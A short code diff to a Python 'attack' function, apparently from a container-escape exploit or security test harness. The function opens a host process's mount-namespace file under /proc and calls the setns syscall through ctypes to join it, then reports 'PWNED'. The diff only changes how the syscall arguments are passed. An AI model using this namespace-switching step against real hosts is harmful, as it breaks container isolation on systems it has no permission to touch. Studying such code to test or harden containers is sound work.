@@ -14,7 +14,8 @@ def attack(target):
     libc.syscall.restype = ctypes.c_long
     number = NUMBER[os.uname().machine]
     handle = os.open(f"/proc/{target['host_pid']}/ns/mnt", os.O_RDONLY)
-    result = libc.syscall(*map(ctypes.c_long, (number, handle, 0)))
+    arguments = (handle, 0)
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: setns returned {result}"
